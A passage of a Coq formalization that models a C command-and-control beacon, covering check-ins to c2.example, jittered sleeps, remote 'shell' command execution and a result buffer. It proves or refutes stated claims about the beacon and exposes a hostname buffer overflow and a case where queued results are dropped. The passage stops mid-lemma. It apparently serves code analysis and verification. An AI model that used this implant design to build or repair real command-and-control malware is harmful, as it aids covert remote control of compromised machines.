Definition plain (s : cstring) : bool := forallb plain_char s.

(** The byte an escape sequence stands for. *)
Definition unescape (c : ascii) : option ascii :=
  if Ascii.eqb c DQUOTE then Some DQUOTE
  else if Ascii.eqb c BACKSLASH then Some BACKSLASH
  else if Ascii.eqb c (ascii_of_nat 47) then Some (ascii_of_nat 47)
  else if Ascii.eqb c (ascii_of_nat 98) then Some (ascii_of_nat 8)
  else if Ascii.eqb c (ascii_of_nat 102) then Some (ascii_of_nat 12)
  else if Ascii.eqb c (ascii_of_nat 110) then Some (ascii_of_nat 10)
  else if Ascii.eqb c (ascii_of_nat 114) then Some (ascii_of_nat 13)
  else if Ascii.eqb c (ascii_of_nat 116) then Some (ascii_of_nat 9)
  else None.

(** Reads a string of the wire format from behind its opening quote:
    the value up to the closing quote, and what follows it. *)
Fixpoint scan_json_string (s : cstring) : option (cstring * cstring) :=
  match s with
  | [] => None
  | c :: rest =>
      if Ascii.eqb c DQUOTE then Some ([], rest)
      else if code c <? 32 then None
      else if Ascii.eqb c BACKSLASH then
        match rest with
        | [] => None
        | e :: rest' =>
            match unescape e, scan_json_string rest' with
            | Some c', Some (v, after) => Some (c' :: v, after)
            | _, _ => None
            end
        end
      else
        match scan_json_string rest with
        | Some (v, after) => Some (c :: v, after)
        | None => None
        end
  end.

(** Reads the fixed text [p]. *)
Definition expect (p s : cstring) : option cstring :=
  if starts_with p s then Some (drop (length p) s) else None.

(** Reads ["k":"value"]. *)
Definition decode_field (k : string) (s : cstring) : option (cstring * cstring) :=
  match expect (jkey k ++ [DQUOTE]) s with
  | Some s1 => scan_json_string s1
  | None => None
  end.

Definition decode_bool (s : cstring) : option (bool * cstring) :=
  match expect (lit "true") s with
  | Some s1 => Some (true, s1)
  | None =>
      match expect (lit "false") s with
      | Some s1 => Some (false, s1)
      | None => None
      end
  end.

(** Reads one result record: command id, success, output, timestamp, and
    what follows the record. *)
Definition decode_result (s : cstring)
  : option (cstring * bool * cstring * cstring * cstring) :=
  s1 ← expect (lit "{") s;
  '(cid, s2) ← decode_field "command_id" s1;
  s3 ← expect (lit ",") s2;
  s4 ← expect (jkey "success") s3;
  '(ok, s5) ← decode_bool s4;
  s6 ← expect (lit ",") s5;
  '(out, s7) ← decode_field "output" s6;
  s8 ← expect (lit ",") s7;
  '(ts, s9) ← decode_field "timestamp" s8;
  s10 ← expect (lit "}") s9;
  Some (cid, ok, out, ts, s10).




(** ** Sample inputs *)

Definition sample_config (url : string) : beacon_config_t :=
  mk_config (lit url) (lit "6b8b4567-327b-23c6-643c-00006b8b4567")
            USER_AGENT 60 10 0 [].

(** A host whose subprocesses print nothing and succeed. *)
Definition quiet_host : host_env :=
  mk_host (lit "2024-05-01T10:00:00Z") (fun _ => PopenRuns [] 0)
          (Some (lit "/tmp")).

Definition sample_result (cid out : string) : command_result_t :=
  mk_result (lit cid) 1 (lit out) (lit "2024-05-01T10:00:00Z").

(** A reply with the given status line and body. *)
Definition reply (status_line body : string) : net_outcome :=
  NetReply (lit status_line ++ CRLF ++ CRLF ++ lit body).

(** The state of a running beacon with the given results queued. *)
Definition running_with (queued : list command_result_t) : beacon_state :=
  mk_state sysinfo_zero 1
           (queued ++ replicate (64 - length queued) result_zero)
           (Z.of_nat (length queued)).

Definition sample_startup (first : net_outcome) : startup_env :=
  mk_startup Posix sysinfo_zero (lit "6b8b4567-327b-23c6-643c-00006b8b4567")
             first.

(** ** The identity of a beacon *)

(** One digit of ["%x"]. *)
Definition hex_digit (d : Z) : ascii :=
  if d <? 10 then ascii_of_nat (Z.to_nat (48 + d))
  else ascii_of_nat (Z.to_nat (87 + d)).

(** The [n] low hexadecimal digits of [v], the most significant first. *)
Fixpoint hex_digits (n : nat) (v : Z) : cstring :=
  match n with
  | O => []
  | S n' => hex_digits n' (v / 16) ++ [hex_digit (v mod 16)]
  end.

(** The number of digits ["%x"] prints for [v]. *)
Definition hex_width (v : Z) : nat := Z.to_nat (Z.log2 v / 4 + 1).

(** ["%0wx"] of an unsigned value: its digits, padded with zeros to at
    least [w] of them. *)
Definition fmt_0x (w : nat) (v : Z) : cstring :=
  hex_digits (Nat.max w (hex_width v)) v.

(** [generate_uuid]: what is left in [buffer]; [r1 .. r6] are the values
    of the six calls of [rand()] in the order of the arguments (C leaves
    open in which order the calls are made).  An [int] passed for ["%x"]
    is read as an [unsigned int]. *)
Definition generate_uuid (r1 r2 r3 r4 r5 r6 : Z) : cstring :=
  snprintf BEACON_ID_LEN
    (fmt_0x 8 (to_unsigned r1) ++ lit "-"
     ++ fmt_0x 4 (to_unsigned (Z.land r2 65535)) ++ lit "-"
     ++ fmt_0x 4 (to_unsigned (Z.land r3 65535)) ++ lit "-"
     ++ fmt_0x 4 (to_unsigned (Z.land r4 65535)) ++ lit "-"
     ++ fmt_0x 8 (to_unsigned r5)
     ++ fmt_0x 4 (to_unsigned (Z.land r6 65535))).

(** ** More vocabulary *)

Definition is_popen (e : io_event) : bool :=
  match e with EvPopen _ => true | _ => false end.

Definition outcome_trace (o : run_outcome) : list io_event :=
  match o with
  | Returned _ _ trace => trace
  | StillRunning _ trace => trace
  end.

(** The record [execute_command] stores for a command. *)
Definition command_result (cmd : command_t) (h : host_env) : command_result_t :=
  fst (fst (fst (execute_command cmd h 0))).

Definition SLASH : ascii := ascii_of_nat 47.
Definition COLON : ascii := ascii_of_nat 58.

(** The byte occurs in the string. *)
Definition has_char (c : ascii) (s : cstring) : bool :=
  existsb (Ascii.eqb c) s.

Definition is_hex (c : ascii) : bool :=
  isdigit c || ((97 <=? code c) && (code c <=? 102)).

(** The scheme prefix of a URL. *)
Definition scheme (tls : bool) : cstring :=
  if tls then lit "https://" else lit "http://".

(** The fields of a configuration fit the arrays of [beacon_config_t]. *)
Definition config_fits (config : beacon_config_t) : Prop :=
  strlen (server_url config) < MAX_URL_LEN
  /\ strlen (beacon_id config) < BEACON_ID_LEN
  /\ strlen (user_agent config) < 256
  /\ strlen (proxy_url config) < MAX_URL_LEN.

(** Whether a request was sent since the last pause, after [trace], when
    [sent] says so for the time before it. *)
Fixpoint pending (sent : bool) (trace : list io_event) : bool :=
  match trace with
  | [] => sent
  | e :: rest =>
      if is_sleep e then pending false rest
      else if is_send e then pending true rest
      else pending sent rest
  end.

(** No request is sent while another one was sent since the last pause. *)
Fixpoint paced (sent : bool) (trace : list io_event) : bool :=
  match trace with
  | [] => true
  | e :: rest =>
      if is_sleep e then paced false rest
      else if is_send e then negb sent && paced true rest
      else paced sent rest
  end.

(** The number a run of decimal digits stands for, read behind [acc]. *)
Fixpoint uint_value (d : Decimal.uint) (acc : Z) : Z :=
  match d with
  | Decimal.Nil => acc
  | Decimal.D0 l => uint_value l (acc * 10 + 0)
  | Decimal.D1 l => uint_value l (acc * 10 + 1)
  | Decimal.D2 l => uint_value l (acc * 10 + 2)
  | Decimal.D3 l => uint_value l (acc * 10 + 3)
  | Decimal.D4 l => uint_value l (acc * 10 + 4)
  | Decimal.D5 l => uint_value l (acc * 10 + 5)
  | Decimal.D6 l => uint_value l (acc * 10 + 6)
  | Decimal.D7 l => uint_value l (acc * 10 + 7)
  | Decimal.D8 l => uint_value l (acc * 10 + 8)
  | Decimal.D9 l => uint_value l (acc * 10 + 9)
  end.

(** The text does not go on with a digit. *)
Definition ends_number (tail : list ascii) : bool :=
  match tail with
  | [] => true
  | c :: _ => negb (isdigit c)
  end.

(** What ["%d"] can print: digits and the minus sign. *)
Definition is_number_char (c : ascii) : bool :=
  isdigit c || Ascii.eqb c (ascii_of_nat 45).

(** The fields of a result record that the wire format carries. *)
Definition result_fields (r : command_result_t)
  : cstring * bool * cstring * cstring :=
  (command_id r, negb (success r =? 0), output r, timestamp r).

Definition plain_result (r : command_result_t) : bool :=
  plain (command_id r) && plain (output r) && plain (timestamp r).

(** Reads result records separated by commas, at most [fuel] of them, up
    to where no comma follows. *)
Fixpoint decode_results (fuel : nat) (s : cstring)
  : option (list (cstring * bool * cstring * cstring) * cstring) :=
  match fuel with
  | O => None
  | S fuel' =>
      match decode_result s with
      | Some (cid, ok, out, ts, rest) =>
          match expect (lit ",") rest with
          | Some rest' =>
              match decode_results fuel' rest' with
              | Some (items, after) => Some ((cid, ok, out, ts) :: items, after)
              | None => None
              end
          | None => Some ([(cid, ok, out, ts)], rest)
          end
      | None => None
      end
  end.

(** Reads a result-bearing check-in: identity, timestamp and the result
    records. *)
Definition decode_payload (s : cstring)
  : option (cstring * cstring * list (cstring * bool * cstring * cstring)) :=
  s1 ← expect (lit "{") s;
  '(bid, s2) ← decode_field "beacon_id" s1;
  s3 ← expect (lit ",") s2;
  '(ts, s4) ← decode_field "timestamp" s3;
  s5 ← expect (lit "," ++ jkey "command_results" ++ lit "[") s4;
  match expect (lit "]}") s5 with
  | Some _ => Some (bid, ts, [])
  | None =>
      '(items, s6) ← decode_results (length s5) s5;
      _ ← expect (lit "]}") s6;
      Some (bid, ts, items)
  end.





(** ** Proof steps *)

(** The case of a read loop that stores nothing more. *)
Ltac nothing_stored :=
  exists []; rewrite app_nil_r;
  split; [reflexivity | split; [apply prefix_nil |]].

(** * Properties *)

(** ** The sleep of a round *)

Lemma wrap_int_small z : -2147483648 <= z <= 2147483647 -> wrap_int z = z.
Proof.
  intros Hz. unfold wrap_int.
  rewrite Z.mod_small by lia. lia.
Qed.

Lemma wrap_int_range z : -2147483648 <= wrap_int z <= 2147483647.
Proof.
  unfold wrap_int. pose proof (Z.mod_pos_bound (z + 2147483648) 4294967296).
  lia.
Qed.

Lemma to_unsigned_small z : 0 <= z < 4294967296 -> to_unsigned z = z.
Proof. intros Hz. unfold to_unsigned. apply Z.mod_small. exact Hz. Qed.

(** With a positive jitter and no [int] overflow the sleep is the base
    plus an offset of [-jitter_range .. jitter_range], floored at 1. *)
Lemma sleep_with_jitter_formula base jp rand :
  0 <= base -> 0 < jp -> base * (100 + jp) <= 2147483647 ->
  0 <= rand <= 2147483647 ->
  let jitter_range := base * jp / 100 in
  let offset := rand mod (2 * jitter_range + 1) - jitter_range in
  - jitter_range <= offset <= jitter_range /\
  sleep_with_jitter base jp rand = Z.max 1 (base + offset).
Proof.
  intros Hb Hj Hov Hr jr offset.
  assert (Hprod : 0 <= base * jp) by nia.
  assert (Hjr0 : 0 <= jr) by (apply Z.div_pos; lia).
  assert (Hjr1 : jr <= base * jp).
  { apply Z.div_le_upper_bound; lia. }
  assert (Hjr2 : 100 * jr <= base * jp) by (apply Z.mul_div_le; lia).
  assert (Hoff : - jr <= offset <= jr).
  { unfold offset.
    pose proof (Z.mod_pos_bound rand (2 * jr + 1)). lia. }
  split; [exact Hoff |].
  unfold sleep_with_jitter.
  destruct (jp >? 0) eqn:E; [| lia].
  rewrite (wrap_int_small (base * jp)) by lia.
  rewrite Z.quot_div_nonneg by lia. fold jr.
  rewrite (wrap_int_small (2 * jr + 1)) by lia.
  rewrite Z.rem_mod_nonneg by lia. fold offset.
  rewrite (wrap_int_small offset) by lia.
  rewrite (wrap_int_small (base + offset)) by lia.
  destruct (Z.ltb_spec (base + offset) 1);
    rewrite to_unsigned_small by lia; lia.
Qed.

(** The default configuration: base 60, jitter 10 percent. *)
Lemma sleep_60_10_range rand :
  0 <= rand <= 2147483647 -> 54 <= sleep_with_jitter 60 10 rand <= 66.
Proof.
  intros Hr.
  destruct (sleep_with_jitter_formula 60 10 rand) as [Hoff Heq]; try lia.
  rewrite Heq. change (60 * 10 / 100) with 6 in *. lia.
Qed.

(** With a positive jitter the floor of one second holds for every base,
    whatever the arithmetic does. *)
Lemma sleep_with_jitter_floor base jp rand :
  0 < jp -> 1 <= sleep_with_jitter base jp rand.
Proof.
  intros Hj. unfold sleep_with_jitter.
  destruct (jp >? 0) eqn:E; [| lia].
  match goal with
  | |- context [wrap_int ?y <? 1] =>
      pose proof (wrap_int_range y); destruct (Z.ltb_spec (wrap_int y) 1)
  end; rewrite to_unsigned_small by lia; lia.
Qed.

(** C3. The sleep is to have a floor of one second for every base and
    jitter percent.  Without jitter the code sleeps the base as it is: for
    base 0 and jitter 0 the sleep is 0 seconds, whatever [rand] returns. *)
Theorem sleep_without_jitter_not_floored :
  forall rand, sleep_with_jitter 0 0 rand = 0.
Proof. intros rand. reflexivity. Qed.

(** ** The transport and the outcome of a check-in *)

Lemma http_request_reply method url headers body raw :
  exists evs,
    http_request method url headers body (NetReply raw)
    = (0, mk_response (parse_status raw) (Some raw) (strlen raw), evs).
Proof.
  unfold http_request.
  destruct (parse_url url) as [[[h p] pa] ssl].
  destruct (build_request method pa h headers body) as [rq len].
  eauto.
Qed.

Lemma http_request_error method url headers body n :
  (forall raw, n <> NetReply raw) ->
  exists evs,
    http_request method url headers body n = (-1, response_zero, evs).
Proof.
  intros Hn. unfold http_request.
  destruct (parse_url url) as [[[h p] pa] ssl].
  destruct (build_request method pa h headers body) as [rq len].
  destruct n; eauto. now destruct (Hn raw).
Qed.

(** A request makes no pause, no TLS handshake, and sends at most once. *)
Lemma http_request_events method url headers body n :
  let evs := snd (http_request method url headers body n) in
  occurrences is_sleep evs = O /\ occurrences is_tls evs = O
  /\ (occurrences is_send evs <= 1)%nat.
Proof.
  unfold http_request.
  destruct (parse_url url) as [[[h p] pa] ssl].
  destruct (build_request method pa h headers body) as [rq len].
  destruct n; cbn; repeat split; lia.
Qed.

Section EngineFacts.

Variable decode : cstring -> list command_t.

Lemma checkin_outcome_events r :
  snd (checkin_outcome decode r) = snd r.
Proof.
  destruct r as [[result response] evs]. unfold checkin_outcome.
  destruct (data response); [| reflexivity].
  destruct ((result =? 0) && (status_code response =? 200)); reflexivity.
Qed.

(** The return value of a check-in, whatever the scheme and the shape. *)
Lemma checkin_reply config sysinfo results n raw :
  checkin decode config sysinfo results n (NetReply raw)
  = (if parse_status raw =? 200
     then (0, decode (c_str raw),
           snd (checkin decode config sysinfo results n (NetReply raw)))
     else (-1, [],
           snd (checkin decode config sysinfo results n (NetReply raw)))).
Proof.
  unfold checkin, https_checkin, http_checkin, https_request.
  destruct (starts_with (lit "https://") (server_url config));
    match goal with
    | |- context [http_request ?m ?u ?h ?b (NetReply raw)] =>
        destruct (http_request_reply m u h b raw) as [evs ->]
    end; cbn; destruct (parse_status raw =? 200); reflexivity.
Qed.

Lemma checkin_error config sysinfo results n o :
  (forall raw, o <> NetReply raw) ->
  checkin decode config sysinfo results n o
  = (-1, [], snd (checkin decode config sysinfo results n o)).
Proof.
  intros Ho.
  unfold checkin, https_checkin, http_checkin, https_request.
  destruct (starts_with (lit "https://") (server_url config));
    match goal with
    | |- context [http_request ?m ?u ?h ?b o] =>
        destruct (http_request_error m u h b o Ho) as [evs ->]
    end; reflexivity.
Qed.

Lemma checkin_events config sysinfo results n o :
  let evs := snd (checkin decode config sysinfo results n o) in
  occurrences is_sleep evs = O /\ occurrences is_tls evs = O
  /\ (occurrences is_send evs <= 1)%nat.
Proof.
  unfold checkin, https_checkin, http_checkin, https_request.
  destruct (starts_with (lit "https://") (server_url config));
    rewrite checkin_outcome_events; apply http_request_events.
Qed.

End EngineFacts.

(** ** The dispatch loop and the result buffer *)

Lemma process_commands_bound commands : forall i host st,
  0 <= g_result_count st <= 64 ->
  0 <= g_result_count (fst (process_commands commands i host st)) <= 64.
Proof.
  induction commands as [| cmd rest IH]; intros i host st Hst; cbn.
  - exact Hst.
  - destruct (Z.ltb_spec (g_result_count st) 64) as [Hlt | Hge].
    + destruct (execute_command cmd (host i) (g_running st))
        as [[[r running] ov] evs].
      match goal with
      | |- context [process_commands rest (S i) host ?s] =>
          specialize (IH (S i) host s)
      end.
      destruct (process_commands rest (S i) host _) as [st'' evs'].
      cbn in *. apply IH. lia.
    + apply IH. exact Hst.
Qed.

(** With a full array the loop runs to its end without executing
    anything. *)
Lemma process_commands_full commands : forall i host st,
  64 <= g_result_count st -> process_commands commands i host st = (st, []).
Proof.
  induction commands as [| cmd rest IH]; intros i host st Hst; cbn.
  - reflexivity.
  - destruct (Z.ltb_spec (g_result_count st) 64) as [Hlt | Hge]; [lia |].
    apply IH. exact Hst.
Qed.

Section LoopFacts.

Variable decode : cstring -> list command_t.

(** The two ways a round can go. *)
Lemma beacon_cycle_cases config e st :
  let '(rc, commands, _) :=
    checkin decode config None (Some (g_results st)) (g_result_count st)
            (net e) in
  if rc =? 0 then
    fst (beacon_cycle decode config e st)
    = fst (process_commands commands O (host e)
             (mk_state (g_sysinfo st) (g_running st) (g_results st) 0))
  else beacon_cycle decode config e st
       = (st, EvSleep (sleep_with_jitter (sleep_interval config)
                         (jitter_percent config) (rnd e))
              :: snd (checkin decode config None (Some (g_results st))
                              (g_result_count st) (net e))).
Proof.
  unfold beacon_cycle.
  destruct (checkin decode config None (Some (g_results st))
                    (g_result_count st) (net e)) as [[rc commands] evs].
  destruct (rc =? 0); [| reflexivity].
  destruct (process_commands commands 0 (host e) _) as [st' evs'].
  reflexivity.
Qed.

Lemma beacon_cycle_bound config e st :
  0 <= g_result_count st <= 64 ->
  0 <= g_result_count (fst (beacon_cycle decode config e st)) <= 64.
Proof.
  intros Hst. pose proof (beacon_cycle_cases config e st) as H.
  destruct (checkin decode config None (Some (g_results st))
                    (g_result_count st) (net e)) as [[rc commands] evs].
  destruct (rc =? 0).
  - rewrite H. apply process_commands_bound. cbn. lia.
  - rewrite H. exact Hst.
Qed.

Lemma beacon_main_loop_bound config cycles : forall st trace,
  0 <= g_result_count st <= 64 ->
  0 <= g_result_count
         (outcome_state (beacon_main_loop decode config cycles st trace)) <= 64.
Proof.
  induction cycles as [| e rest IH]; intros st trace Hst; cbn.
  - destruct (g_running st =? 0); exact Hst.
  - destruct (g_running st =? 0); [exact Hst |].
    pose proof (beacon_cycle_bound config e st Hst) as Hb.
    destruct (beacon_cycle decode config e st) as [st' evs].
    apply IH. exact Hb.
Qed.


End LoopFacts.

(** ** The termination verb *)

Lemma streq_refl a : streq a a = true.
Proof.
  induction a as [| c a IH]; cbn; [reflexivity |].
  rewrite Ascii.eqb_refl. exact IH.
Qed.

(** No command sets the running flag again. *)
Lemma execute_command_keeps_stopped cmd h :
  snd (fst (fst (execute_command cmd h 0))) = 0.
Proof.
  unfold execute_command.
  destruct (streq (command cmd) (lit "shell")).
  - destruct (execute_shell_command (args cmd) MAX_OUTPUT_SIZE h) as [[ok out] evs].
    reflexivity.
  - destruct (streq (command cmd) (lit "pwd")).
    + destruct (getcwd h); reflexivity.
    + destruct (streq (command cmd) (lit "exit")); reflexivity.
Qed.

Lemma execute_command_exit cmd h running :
  command cmd = lit "exit" ->
  snd (fst (fst (execute_command cmd h running))) = 0.
Proof. intros Hc. unfold execute_command. rewrite Hc. reflexivity. Qed.

Lemma process_commands_keeps_stopped commands : forall i host st,
  g_running st = 0 -> g_running (fst (process_commands commands i host st)) = 0.
Proof.
  induction commands as [| cmd rest IH]; intros i host st Hst; cbn.
  - exact Hst.
  - destruct (g_result_count st <? 64); [| apply IH; exact Hst].
    pose proof (execute_command_keeps_stopped cmd (host i)) as Hk.
    rewrite Hst.
    destruct (execute_command cmd (host i) 0) as [[[r running] ov] evs].
    cbn in Hk. subst running.
    match goal with
    | |- context [process_commands rest (S i) host ?s] =>
        specialize (IH (S i) host s eq_refl)
    end.
    destruct (process_commands rest (S i) host _) as [st'' evs'].
    exact IH.
Qed.


(** From the start of the process on, the count stays within the array. *)
Lemma main_result_count_bounded decode argv s cycles :
  0 <= g_result_count (outcome_state (main decode argv s cycles)) <= 64.
Proof.
  unfold main.
  destruct (main_config argv s) as [config |]; [| cbn; lia].
  assert (Hinit : 0 <= g_result_count
                         (snd (beacon_initialize config s initial_state)) <= 64).
  { unfold beacon_initialize.
    destruct (build s) as [| r]; [| destruct (r =? 0)]; cbn; lia. }
  destruct (beacon_initialize config s initial_state) as [rc st1].
  cbn in Hinit. destruct (rc =? 0); cbn [negb]; [| exact Hinit].
  unfold beacon_start.
  destruct (checkin decode config (Some (g_sysinfo st1)) None 0 (first_net s))
    as [[crc commands] evs].
  destruct (crc =? 0); cbn [negb]; [| exact Hinit].
  apply beacon_main_loop_bound. exact Hinit.
Qed.

(** C2 (as amended). From a buffer of at most 64 results, no number of
    rounds of the main loop takes the count above 64; and once 64 results
    are queued, the commands still to be processed are passed over: none
    is executed, no result is computed, nothing is queued and no error is
    raised. *)
Theorem result_buffer_bounded
    (decode : cstring -> list command_t) (config : beacon_config_t)
    (cycles : list cycle_env) (st : beacon_state) (trace : list io_event)
    (commands : list command_t) (i : nat) (host : nat -> host_env) :
  0 <= g_result_count st <= 64 ->
  let st' := outcome_state (beacon_main_loop decode config cycles st trace) in
  0 <= g_result_count st' <= 64
  /\ (g_result_count st' = 64 ->
      process_commands commands i host st' = (st', [])).
Proof.
  intros Hst st'. split.
  - apply beacon_main_loop_bound. exact Hst.
  - intros Hfull. apply process_commands_full. lia.
Qed.

(** C9. A failed first check-in is to end the process with status 1.
    With a host of 300 bytes in the URL, which [main] takes whole into
    [server_url], the first check-in is reached and [parse_url] copies
    the host into [hostname[256]] of [http_request] without a length
    check: 301 bytes are written into the array of 256, and what the
    process does from there on is undefined. *)
Theorem long_host_overruns_hostname_array :
  let url := lit "http://" ++ replicate 300 (ascii_of_nat 104) ++ lit "/x" in
  let s := sample_startup NetResolveError in
  exists config,
    main_config [lit "beacon"; url] s = Some config
    /\ server_url config = url
    /\ fst (beacon_initialize config s initial_state) = 0
    /\ strlen (fst (fst (fst (parse_url (server_url config))))) = 300
    /\ parse_url_in_bounds (server_url config) = false.
Proof.
  cbv zeta.
  exists (mk_config
            (lit "http://" ++ replicate 300 (ascii_of_nat 104) ++ lit "/x")
            (uuid (sample_startup NetResolveError)) USER_AGENT 60 10 0 []).
  repeat split; vm_compute; reflexivity.
Qed.

Lemma result_buffer_bounded_witness :
  let full := running_with (replicate 64 (sample_result "c" "ok")) in
  let unreachable :=
    mk_cycle 3 NetConnectError (fun _ => quiet_host) in
  let st' :=
    outcome_state
      (beacon_main_loop parse_commands_json
         (sample_config "http://c2.example/api") [unreachable] full []) in
  0 <= g_result_count full <= 64
  /\ 0 <= g_result_count st' <= 64
  /\ process_commands [mk_command (lit "c65") (lit "pwd") []] O
                      (fun _ => quiet_host) st' = (st', []).
Proof.
  cbv zeta.
  assert (Hfull : 0 <= g_result_count
                         (running_with (replicate 64 (sample_result "c" "ok")))
                  <= 64)
    by (vm_compute; split; discriminate).
  split; [exact Hfull |].
  destruct (result_buffer_bounded parse_commands_json
              (sample_config "http://c2.example/api")
              [mk_cycle 3 NetConnectError (fun _ => quiet_host)]
              (running_with (replicate 64 (sample_result "c" "ok"))) []
              [mk_command (lit "c65") (lit "pwd") []] O (fun _ => quiet_host)
              Hfull) as [Hbound Hskip].
  split; [exact Hbound |].
  apply Hskip. vm_compute. reflexivity.
Defined.

(** C2 (as stated) fails: with 64 results queued, a 65th command is not
    executed at all.  Here it is the [exit] command: executing it would
    clear the running flag, but the loop leaves the state as it is and
    causes no effect; so a round that receives 64 commands and then
    [exit] ends with 64 results queued and the beacon still running. *)
Lemma full_buffer_skips_command :
  let full := running_with (replicate 64 (sample_result "c" "ok")) in
  let cmd := mk_command (lit "c65") (lit "exit") [] in
  let received := replicate 64 (mk_command (lit "c") (lit "pwd") []) ++ [cmd] in
  let after :=
    fst (process_commands received O (fun _ => quiet_host) (running_with [])) in
  g_result_count full = 64
  /\ process_commands [cmd] O (fun _ => quiet_host) full = (full, [])
  /\ snd (fst (fst (execute_command cmd quiet_host 1))) = 0
  /\ g_result_count after = 64
  /\ g_running after = 1.
Proof. vm_compute. repeat split; reflexivity. Qed.

(** Examples of the three ways [main] can go. *)
Example main_exits_1_when_connection_refused :
  main parse_commands_json [lit "beacon"; lit "http://c2.example/api"]
       (sample_startup NetConnectError)
       [mk_cycle 3 (reply "HTTP/1.1 200 OK" "{}") (fun _ => quiet_host)]
  = Returned 1 (mk_state (snd (collect_system_info (sample_startup NetConnectError)))
                         0 (replicate 64 result_zero) 0)
             [EvResolve (lit "c2.example"); EvConnect (lit "c2.example") 80].
Proof. vm_compute. reflexivity. Qed.

Example main_exits_1_without_url :
  main parse_commands_json [lit "beacon"] (sample_startup NetConnectError) []
  = Returned 1 initial_state [].
Proof. reflexivity. Qed.

Example main_exits_1_when_wsastartup_fails :
  exists st,
    main parse_commands_json [lit "beacon"; lit "http://c2.example/api"]
         (mk_startup (Win32 10091) sysinfo_zero [] (reply "HTTP/1.1 200 OK" "{}"))
         []
    = Returned 1 st [].
Proof. eexists. vm_compute. reflexivity. Qed.

(** With a decoder that delivers the [exit] command the loop ends after
    the round that received it and [main] returns 0. *)
Example main_exits_0_after_exit_command :
  exists st trace,
    main (fun _ => [mk_command (lit "c1") (lit "exit") []])
         [lit "beacon"; lit "http://c2.example/api"]
         (sample_startup (reply "HTTP/1.1 200 OK" "{}"))
         [mk_cycle 3 (reply "HTTP/1.1 200 OK" "{}") (fun _ => quiet_host)]
    = Returned 0 st trace
    /\ result_buffer st
       = [mk_result (lit "c1") 1 (lit "Beacon shutting down")
                    (lit "2024-05-01T10:00:00Z")].
Proof. eexists. eexists. vm_compute. split; reflexivity. Qed.

(** ** The decoder of the program *)

Lemma parse_commands_json_nil json : parse_commands_json json = [].
Proof.
  unfold parse_commands_json.
  destruct (strstr json _); reflexivity.
Qed.

(** A round of the program itself: the decoder delivers no command, so a
    successful check-in leaves the buffer empty and nothing else changed. *)
Lemma beacon_cycle_program config e st :
  let rc := fst (fst (checkin parse_commands_json config None
                        (Some (g_results st)) (g_result_count st) (net e))) in
  fst (beacon_cycle parse_commands_json config e st)
  = if rc =? 0
    then mk_state (g_sysinfo st) (g_running st) (g_results st) 0
    else st.
Proof.
  pose proof (beacon_cycle_cases parse_commands_json config e st) as H.
  destruct (checkin parse_commands_json config None (Some (g_results st))
                    (g_result_count st) (net e)) as [[rc commands] evs] eqn:E.
  cbn.
  assert (Hc : rc = 0 -> commands = []).
  { intros Hrc. destruct (net e) as [| | | | raw] eqn:En;
      try (rewrite checkin_error in E by congruence; inversion E; lia).
    rewrite checkin_reply in E.
    destruct (parse_status raw =? 200); inversion E; subst; try lia.
    apply parse_commands_json_nil. }
  destruct (Z.eqb_spec rc 0) as [Hrc | Hrc].
  - rewrite H, (Hc Hrc). reflexivity.
  - rewrite H. reflexivity.
Qed.


(** How the transport reads the status: behind the first occurrence of
    the text [HTTP/1.1] and a blank, wherever in the received bytes it
    stands, and as [atoi] reads an [int].  A reply of another protocol
    version has no status; a status line of another version followed by
    that text in the body has the status named in the body; a number
    beyond the [int] range is reduced to 32 bits. *)
Example status_is_read_behind_the_first_marker :
  parse_status (lit "HTTP/1.0 200 OK") = 0
  /\ parse_status (lit "HTTP/1.0 404 Not Found" ++ CRLF ++ CRLF
                   ++ lit "see HTTP/1.1 200") = 200
  /\ parse_status (lit "HTTP/1.1 4294967496 OK") = 200
  /\ parse_status (lit "HTTP/1.1 404 Not Found") = 404.
Proof. vm_compute. repeat split; reflexivity. Qed.

(** C1 (as amended). For a server URL whose host and path fit the
    arrays of the transport: the buffer is emptied exactly by a check-in
    that returns 0, which is the case exactly when the transport
    received a reply whose status, read as [parse_status] reads it, is
    200, whatever else the reply holds; the array and the running flag
    stay as they were.  After any other check-in the whole state, so the
    buffer's contents and length, is unchanged. *)
Theorem result_buffer_cleared_iff_checkin_succeeds
    (config : beacon_config_t) (e : cycle_env) (st : beacon_state) :
  parse_url_in_bounds (server_url config) = true ->
  let rc := fst (fst (checkin parse_commands_json config None
                        (Some (g_results st)) (g_result_count st) (net e))) in
  let st' := fst (beacon_cycle parse_commands_json config e st) in
  (rc = 0 <-> exists raw, net e = NetReply raw /\ parse_status raw = 200)
  /\ (rc = 0 ->
      g_result_count st' = 0 /\ result_buffer st' = []
      /\ g_results st' = g_results st /\ g_running st' = g_running st)
  /\ (rc <> 0 -> st' = st /\ result_buffer st' = result_buffer st).
Proof.
  intros _ rc st'.
  pose proof (beacon_cycle_program config e st) as H. fold rc st' in H.
  split; [| split].
  - unfold rc. destruct (net e) as [| | | | raw] eqn:En;
      try (rewrite checkin_error by congruence; cbn;
           split; [lia | intros (raw & Hraw & _); congruence]).
    rewrite checkin_reply.
    destruct (Z.eqb_spec (parse_status raw) 200) as [Hs | Hs]; cbn.
    + split; [eauto | reflexivity].
    + split; [lia |]. intros (raw' & Hraw & Hst). congruence.
  - intros Hrc. rewrite H, Hrc. cbn. repeat split; reflexivity.
  - intros Hrc. rewrite H.
    destruct (Z.eqb_spec rc 0); [contradiction |]. split; reflexivity.
Qed.

Lemma result_buffer_cleared_iff_checkin_succeeds_witness :
  parse_url_in_bounds (server_url (sample_config "http://c2.example/api"))
  = true
  /\ fst (beacon_cycle parse_commands_json
            (sample_config "http://c2.example/api")
            (mk_cycle 3 (reply "HTTP/1.1 503 Busy" "{}") (fun _ => quiet_host))
            (running_with [sample_result "c1" "done"]))
     = running_with [sample_result "c1" "done"].
Proof.
  split; [reflexivity |].
  pose proof (result_buffer_cleared_iff_checkin_succeeds
                (sample_config "http://c2.example/api")
                (mk_cycle 3 (reply "HTTP/1.1 503 Busy" "{}")
                          (fun _ => quiet_host))
                (running_with [sample_result "c1" "done"]) eq_refl) as H.
  cbv zeta in H. destruct H as (_ & _ & Hfail).
  apply Hfail. vm_compute. discriminate.
Defined.

(** C1 (as stated) fails: a reply with status 200 and a body that is no
    document of the wire format counts as a successful check-in, and the
    queued result is dropped from the buffer. *)
Lemma malformed_body_clears_buffer :
  let queued := sample_result "c1" "done" in
  let st := running_with [queued] in
  let e := mk_cycle 3 (reply "HTTP/1.1 200 OK" "<html>busy</html>")
                    (fun _ => quiet_host) in
  result_buffer st = [queued]
  /\ result_buffer
       (fst (beacon_cycle parse_commands_json
               (sample_config "http://c2.example/api") e st)) = [].
